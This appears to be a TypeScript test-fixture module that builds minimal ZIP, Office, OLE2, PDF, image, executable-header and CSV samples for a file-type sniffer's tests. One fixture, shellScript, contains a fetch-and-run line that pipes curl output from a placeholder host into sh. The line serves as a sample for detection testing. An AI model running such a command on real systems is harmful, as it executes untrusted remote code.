import zlib from 'node:zlib';

// Small, well-formed sample files built in memory for the sniffer, route and benchmark tests.

export interface ZipEntry {
  name: string;
  data: Buffer;
}

/** A ZIP archive with stored (uncompressed) entries: enough structure for any reader, including our sniffer. */
export function buildZip(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const crc = zlib.crc32(entry.data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(entry.data.length, 18);
    local.writeUInt32LE(entry.data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(entry.data.length, 20);
    central.writeUInt32LE(entry.data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, entry.data);
    centrals.push(central, name);
    offset += local.length + name.length + entry.data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const CONTENT_TYPES = Buffer.from(
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
);

/** An Office Open XML package of the given flavour, optionally padded with a stored media part to `size` bytes. */
export function officeOpenXml(flavour: 'xl' | 'word' | 'ppt', size = 0): Buffer {
  const entries: ZipEntry[] = [
    { name: '[Content_Types].xml', data: CONTENT_TYPES },
    { name: `${flavour}/document.xml`, data: Buffer.from('<document/>') },
  ];
  const bare = buildZip(entries).length;
  const overhead = 30 + 46 + 2 * `${flavour}/media/pad.bin`.length;
  if (size > bare + overhead) {
    entries.push({ name: `${flavour}/media/pad.bin`, data: Buffer.alloc(size - bare - overhead, 0x5a) });
  }
  return buildZip(entries);
}

/** A minimal OLE2 compound file whose directory lists the given stream names (xls: Workbook, doc: WordDocument). */
export function compoundFile(streamNames: string[]): Buffer {
  const sectorSize = 512;
  const header = Buffer.alloc(512);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header, 0);
  header.writeUInt16LE(0x3e, 0x18);
  header.writeUInt16LE(3, 0x1a);
  header.writeUInt16LE(0xfffe, 0x1c);
  header.writeUInt16LE(9, 0x1e);
  header.writeUInt16LE(6, 0x20);
  header.writeUInt32LE(1, 0x2c); // one FAT sector
  header.writeUInt32LE(1, 0x30); // directory starts at sector 1
  header.writeUInt32LE(0x1000, 0x38);
  header.writeUInt32LE(0xfffffffe, 0x3c);
  header.writeUInt32LE(0xfffffffe, 0x44);
  for (let i = 0; i < 109; i++) header.writeUInt32LE(0xffffffff, 0x4c + i * 4);
  header.writeUInt32LE(0, 0x4c); // the FAT is sector 0
  const fat = Buffer.alloc(sectorSize, 0xff);
  fat.writeUInt32LE(0xfffffffd, 0); // sector 0: FAT
  fat.writeUInt32LE(0xfffffffe, 4); // sector 1: directory, end of chain
  const dir = Buffer.alloc(sectorSize);
  const names = ['Root Entry', ...streamNames].slice(0, 4);
  names.forEach((name, i) => {
    const p = i * 128;
    const encoded = Buffer.from(`${name}\u0000`, 'utf16le');
    encoded.copy(dir, p);
    dir.writeUInt16LE(encoded.length, p + 0x40);
    dir[p + 0x42] = i === 0 ? 5 : 2;
    dir.writeUInt32LE(0xffffffff, p + 0x44);
    dir.writeUInt32LE(0xffffffff, p + 0x48);
    dir.writeUInt32LE(i === 0 && names.length > 1 ? 1 : 0xffffffff, p + 0x4c);
  });
  return Buffer.concat([header, fat, dir]);
}

/** A tiny but valid PDF, padded with a comment block up to `size` bytes when asked. */
export function pdf(size = 0): Buffer {
  const body = Buffer.from(
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n' +
      'trailer<</Root 1 0 R>>\n%%EOF\n',
  );
  if (size <= body.length) return body;
  const pad = Buffer.alloc(size - body.length, 0x20);
  pad[0] = 0x25; // '%': the padding is a comment line
  pad[pad.length - 1] = 0x0a;
  return Buffer.concat([body.subarray(0, 9), pad, body.subarray(9)]);
}

export const png = (): Buffer =>
  Buffer.from(
    '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000100' +
      '05fe02fea7d6a7d10000000049454e44ae426082',
    'hex',
  );

export const jpeg = (): Buffer =>
  Buffer.concat([Buffer.from('ffd8ffe000104a46494600', 'hex'), Buffer.alloc(64), Buffer.from('ffd9', 'hex')]);

/** A Windows executable header (what a renamed .exe starts with). */
export const windowsExecutable = (): Buffer =>
  Buffer.concat([
    Buffer.from('MZ'),
    Buffer.alloc(58),
    Buffer.from([0x80, 0, 0, 0]),
    Buffer.alloc(64),
    Buffer.from('PE\0\0'),
  ]);

export const elfExecutable = (): Buffer =>
  Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(57)]);

export const machOExecutable = (): Buffer =>
  Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(28)]);

export const shellScript = (): Buffer => Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n');

export const csv = (): Buffer =>
  Buffer.from('customer_id,amount,start_date,period\nc1,100,2024-01-01,monthly\n');

export const dataUrl = (mime: string, data: Buffer): string =>
  `data:${mime};base64,${data.toString('base64')}`;
